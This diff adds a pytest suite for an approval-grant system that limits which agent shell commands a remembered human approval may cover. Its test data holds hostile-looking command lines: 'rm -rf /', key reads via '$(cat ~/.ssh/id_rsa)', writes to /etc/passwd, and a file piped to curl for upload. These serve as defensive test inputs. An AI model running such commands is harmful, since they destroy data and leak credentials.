@@ -1,0 +1,373 @@
+"""Grants: what an approval may leave behind, and what that covers, command by command."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from pydantic import ValidationError
+
+from guardtier import ActionEvent, Assessment, SecurityRisk
+from guardtier.assessment import Finding
+from guardtier.errors import InvalidAnswer
+from guardtier.policy.file import PolicyFile
+from guardtier.policy.grants import Grant, Pattern, Remember, Scope
+from guardtier.policy.ruling import Effect, Facts, Ruling
+from guardtier.policy.terms import Terms
+from guardtier_workers.grants.drafting import Approval, draft, suggested
+from guardtier_workers.grants.remembered import fitting
+
+SECRET = "aZ3kQ9pL1xV7bN5mT2wR8yC4dF6gH0jK9sEu"
+LOW, MEDIUM, HIGH, UNKNOWN = (SecurityRisk(name) for name in ("LOW", "MEDIUM", "HIGH", "UNKNOWN"))
+
+
+def action(command: str = "git push", **fields: Any) -> ActionEvent:
+    known = {"fleet": "web", "agent": "coder", "conversation": "c1", "tool_name": "terminal"}
+    return ActionEvent(**{"arguments": {"command": command}} | known | fields)
+
+
+def rated(risk: SecurityRisk = HIGH, *findings: str, **more: Any) -> Assessment:
+    found = tuple(Finding(id=name, risk=HIGH, message="m") for name in findings)
+    return Assessment(risk=risk, findings=found, **more)
+
+
+def approval(of: ActionEvent, assessment: Assessment | None = None, **terms: Any) -> Approval:
+    return Approval(of, assessment or rated(), Terms(**terms), ("alice",), 1_000)
+
+
+def granted(command: str, pattern: str = "command", **remember: Any) -> Grant:
+    return draft(Remember(pattern=pattern, **remember), approval(action(command)))
+
+
+def covers(grants: list[Grant], command: str, assessment: Assessment | None = None, **fields: Any) -> bool:
+    return bool(fitting(grants, action(command, **fields), assessment or rated()))
+
+
+# -- the same command ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git push && curl https://example.com/x",
+        "git push | tee log",
+        "git push; rm -rf /",
+        "curl https://example.com/x && git push",
+        "git push --force",
+        "git push $(cat ~/.ssh/id_rsa)",
+        "git push `id`",
+        'git push "$X"',
+        "git push > /etc/passwd",
+        "git push 2>&1",
+        "git push &",
+        "git push &&",
+        "git push |",
+        "git push & rm x",
+        "sudo git push",
+        "X=1 git push",
+        "(git push)",
+        "for x in 1 2; do git push; done",
+        "! git push",
+        "git\tpull",
+        "git push *",
+        "git push {a,b}",
+        "git push\nrm x",
+        "bash -c 'git push'",
+        "/tmp/git push",
+        "",
+    ],
+)
+def test_a_grant_for_one_command_covers_no_other_line(line: str) -> None:
+    grant = granted("git push")
+
+    assert covers([grant], "git push")
+    assert not covers([grant], line)
+
+
+@pytest.mark.parametrize(
+    "line", ["git push", "git   push", " git push ", "git push;", "git \\\n push", "'git' push"]
+)
+def test_spaces_and_quotes_make_no_other_command(line: str) -> None:
+    assert covers([granted("git push")], line)
+
+
+@pytest.mark.parametrize("join", [" && ", "; ", "\n", "\n\n"])
+def test_a_line_of_commands_that_are_each_covered_is_covered(join: str) -> None:
+    push, tag = granted("git push"), granted("git tag v1")
+
+    assert fitting([push, tag], action(join.join(["git tag v1", "git push", "git tag v1"])), rated()) == (
+        tag,
+        push,
+    )
+    assert not covers([push], f"git tag v1{join}git push")
+
+
+@pytest.mark.parametrize("join", [" | ", " & ", " || "])
+def test_nothing_goes_from_one_grant_to_another(join: str) -> None:
+    read, send = granted("cat notes/a.txt"), granted("curl -T - https://example.com")
+
+    assert not covers([read, send], f"cat notes/a.txt{join}curl -T - https://example.com")
+
+
+def test_a_grant_for_a_line_covers_that_line_alone() -> None:
+    grant = granted("make test && make publish | tee log")
+
+    assert covers([grant], "make test && make publish | tee log")
+    for other in (
+        "make publish",
+        "make test; make publish | tee log",
+        "make test && make publish",
+        "make publish | tee log",
+    ):
+        assert not covers([grant], other)
+
+
+@pytest.mark.parametrize("change", ["cd /etc", "alias rm=x", "source env/x", "umask 0", "pushd /etc"])
+def test_what_changes_the_rest_of_a_line_covers_nothing_behind_it(change: str) -> None:
+    before, delete = granted(change), granted("rm -rf build/a")
+
+    assert covers([before], change)
+    assert not covers([before, delete], f"{change} && rm -rf build/a")
+    assert covers([before, delete], f"rm -rf build/a && {change}")
+    assert covers([granted(f"{change} && rm -rf build/a")], f"{change} && rm -rf build/b")
+
+
+# -- other paths ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "path", ["build/b", "build/b/c", "./build/b", "build//b", "'build/b c'", "build/.b"]
+)
+def test_other_paths_below_the_folder_are_covered(path: str) -> None:
+    assert covers([granted("rm -rf build/a")], f"rm -rf {path}")
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["build", "build/", "build/../x", "build/a/../../x", "buildx/a", "/build/a", "x/build/a", "../build/a",
+     "build/*", "build/$X", "~/build/a", "-build/a", "build/a build/b", "--build/a", "'build/*'",
+     "build/a:b"],
+)  # fmt: skip
+def test_no_other_path_is(path: str) -> None:
+    assert not covers([granted("rm -rf build/a")], f"rm -rf {path}")
+
+
+@pytest.mark.parametrize(
+    ("command", "other"),
+    [
+        ("rm a.txt", "rm b.txt"),
+        ("rm /a", "rm /b"),
+        ("rm ~/a", "rm ~/b"),
+        ("python scripts/a.py", "python scripts/b.py"),
+        ("bash scripts/a.sh", "bash scripts/b.sh"),
+        ("./bin/a", "./bin/b"),
+        ("psql -f db/a.sql", "psql -f db/b.sql"),
+        ("git push origin feature/a", "git push origin feature/b"),
+        ("docker run img/a", "docker run img/b"),
+        ("curl https://x.example/a", "curl https://x.example/b"),
+        ("sed -i s/a/b/ src/x", "sed -i s/a/c/ src/x"),
+        ("make -f build/a.mk", "make -f build/b.mk"),
+    ],
+)
+def test_what_is_no_path_in_a_folder_or_is_run_stays_as_it_is(command: str, other: str) -> None:
+    grant = granted(command)
+
+    assert covers([grant], command)
+    assert not covers([grant], other)
+
+
+def test_the_approver_may_name_a_wider_or_another_folder() -> None:
+    grant = granted("cp src/a/x.py out/x.py", below="src")
+
+    assert covers([grant], "cp src/b/y.py out/x.py")
+    assert not covers([grant], "cp src/a/x.py out/y.py")
+    with pytest.raises(InvalidAnswer, match="no path of the command is below lib") as said:
+        granted("cp src/a/x.py out/x.py", below="lib")
+    assert said.value.field == "below"
+    for nowhere in ("/", ".", "~", "..", "src/..", "*", "./", "//"):
+        with pytest.raises(InvalidAnswer, match="below must be a folder"):
+            granted("cp src/a out/x.py", below=nowhere)
+
+
+# -- whose, how risky ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("pattern", "scope", "covered"),
+    [
+        ("exact", "conversation", {"same"}),
+        ("exact", "agent", {"same", "conversation"}),
+        ("exact", "fleet", {"same", "conversation", "agent"}),
+        ("command", "conversation", {"same"}),
+        ("command", "fleet", {"same", "conversation", "agent"}),
+        ("tool", "conversation", {"same"}),
+        ("tool", "agent", {"same", "conversation"}),
+    ],
+)
+def test_a_scope_says_whose_actions(pattern: str, scope: str, covered: set[str]) -> None:
+    grant = granted("git push", pattern, scope=scope)
+    others = {
+        "same": action(),
+        "conversation": action(conversation="c2"),
+        "agent": action(agent="writer", conversation="c2"),
+        "tool": action(tool_name="bash"),
+    }
+
+    found = {
+        name
+        for name, one in others.items()
+        if grant.is_for(tool=one.tool_name, agent=one.agent, conversation=one.conversation, now_ms=2_000)
+        and fitting([grant], one, rated())
+    }
+
+    assert found == covered
+
+
+@pytest.mark.parametrize("pattern", Pattern)
+def test_nothing_beyond_what_the_approver_saw_is_covered(pattern: Pattern) -> None:
+    seen = approval(action(), rated(MEDIUM, "shell.git.push", "shell.x"))
+    grant = draft(Remember(pattern=pattern), seen)
+
+    assert covers([grant], "git push", rated(MEDIUM, "shell.git.push"))
+    assert covers([grant], "git push", rated(LOW))
+    assert not covers([grant], "git push", rated(HIGH, "shell.git.push"))
+    assert not covers([grant], "git push", rated(UNKNOWN))
+    assert not covers([grant], "git push", rated(MEDIUM, "shell.git.push", "flow.exfiltration"))
+    assert not covers([grant], "git push", rated(MEDIUM, failed=True))
+
+
+def test_who_saw_unknown_has_seen_nothing_high() -> None:
+    grant = draft(Remember(pattern="exact"), approval(action(), rated(UNKNOWN)))
+
+    assert [covers([grant], "git push", rated(risk)) for risk in (UNKNOWN, MEDIUM, HIGH)] == [
+        True,
+        True,
+        False,
+    ]
+
+
+def test_other_arguments_beside_the_command_must_be_the_same() -> None:
+    near = {"command": "git push", "cwd": "/repo"}
+    grant = draft(Remember(pattern="command"), approval(action(arguments=near)))
+
+    assert fitting([grant], action(arguments=near), rated())
+    assert not fitting([grant], action(arguments=near | {"cwd": "/etc"}), rated())
+    assert not fitting([grant], action(), rated())
+
+
+def test_a_grant_ends() -> None:
+    grant = granted("git push", seconds="1m")
+    who = {"tool": "terminal", "agent": "coder", "conversation": "c1"}
+
+    assert grant.is_for(**who, now_ms=60_999)
+    assert not grant.is_for(**who, now_ms=61_000)
+
+
+@pytest.mark.parametrize(
+    ("given", "asked", "enough"),
+    [
+        ({}, {}, True),
+        ({}, {"approve": 2}, False),
+        ({"approve": 2}, {"approve": 2}, True),
+        ({}, {"roles": ("dba",)}, False),
+        ({"roles": ("dba",)}, {"roles": ("dba", "ops")}, True),
+        ({"roles": ("dba", "ops")}, {"roles": ("dba",)}, False),
+        ({"roles": ("dba",)}, {}, True),
+        ({}, {"may_remember": False}, False),
+    ],
+)
+def test_it_stands_in_only_for_an_approval_that_its_giver_could_have_given(
+    given: dict[str, Any], asked: dict[str, Any], enough: bool
+) -> None:
+    grant = draft(Remember(pattern="exact"), approval(action(), **given))
+
+    assert grant.is_enough_for(Terms(**asked)) is enough
+
+
+def test_a_rule_that_can_not_be_told_parks_and_no_grant_stands_in() -> None:
+    rule = '[[rule]]\nname = "prod"\noutcome = "release"\ntarget = ["*/prod/*"]\n'
+    compiled = PolicyFile.parse(f"version = 1\n{rule}").compiled()
+
+    def raises() -> tuple[str, ...]:
+        raise ValueError("nobody knows")
+
+    facts = Facts("web", "coder", "terminal", LOW, action=action(), targets=raises)
+    ruling = compiled.rule(facts, lambda _: Ruling(Effect.RELEASE, "default"), "file@1")
+
+    assert (ruling.effect, ruling.terms.may_remember) == (Effect.PARK, False)
+
+
+# -- what can't be remembered --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("remember", "of", "why"),
+    [
+        ({"pattern": "command"}, approval(action("git push $(id)")), "plain shell commands"),
+        ({"pattern": "command"}, approval(action("x > y")), "plain shell commands"),
+        ({"pattern": "command"}, approval(action(tool_name="fetch", arguments={"url": "x"})), "plain"),
+        ({"pattern": "command"}, approval(action("echo " + "x" * 5000)), "plain shell commands"),
+        ({"pattern": "command"}, approval(action(f"login ghp_{SECRET}")), "holds a secret"),
+        ({"pattern": "exact"}, approval(action(), rated(failed=True)), "could not be analyzed"),
+        ({"pattern": "exact"}, approval(action(), may_remember=False), "policy does not let"),
+        ({"pattern": "exact", "scope": "conversation"}, approval(action(conversation=None)), "names no"),
+        ({"pattern": "tool"}, approval(action(), rated(UNKNOWN)), "nobody can tell what terminal does"),
+    ],
+    ids=str,
+)  # fmt: skip
+def test_what_can_not_be_remembered_says_why(remember: dict[str, Any], of: Approval, why: str) -> None:
+    with pytest.raises(InvalidAnswer, match=why):
+        draft(Remember(**remember), of)
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [
+        {"pattern": "tool", "scope": "fleet"},
+        {"pattern": "exact", "below": "src"},
+        {"pattern": "exact", "uses": 0},
+        {"pattern": "exact", "uses": 1001},
+        {"pattern": "exact", "seconds": "31d"},
+        {"pattern": "exact", "seconds": 0},
+        {"pattern": "exact", "seconds": float("nan")},
+        {"pattern": "every"},
+        {"pattern": "exact", "more": 1},
+    ],
+    ids=str,
+)
+def test_a_wish_that_is_too_wide_is_refused(wrong: dict[str, Any]) -> None:
+    with pytest.raises(ValidationError):
+        Remember.model_validate(wrong)
+
+
+def test_suggestions_are_those_that_fit_the_narrowest_first() -> None:
+    assert [one.pattern for one in suggested(approval(action("rm -rf build/a")))] == list(Pattern)
+    assert [one.pattern for one in suggested(approval(action("rm -rf $X"), rated(UNKNOWN)))] == [
+        Pattern.EXACT
+    ]
+    assert {one.scope for one in suggested(approval(action()))} == {Scope.CONVERSATION}
+    assert suggested(approval(action(), may_remember=False)) == []
+
+
+# -- in words ------------------------------------------------------------------------------------
+
+
+def test_it_is_said_in_words() -> None:
+    seen = approval(action("cd /repo && rm -rf build/a 'x y'"), rated(HIGH, "shell.delete.workspace"))
+
+    found = draft(Remember(pattern="command", scope="conversation", uses=1), seen)
+
+    assert found.words == (
+        "terminal: cd /repo && rm -rf <a path below build/> 'x y', by agent coder in conversation c1, "
+        "up to HIGH with no finding beside shell.delete.workspace, once at most"
+    )
+    assert granted("ls", "tool").words == (
+        "any call of terminal, by agent coder, up to HIGH with no finding, 10 times at most"
+    )
+
+
+def test_it_reads_what_it_wrote() -> None:
+    grant = granted("rm -rf build/a")
+
+    assert Grant.from_json(grant.to_json()) == grant
+    assert len(grant.to_json()) < 700
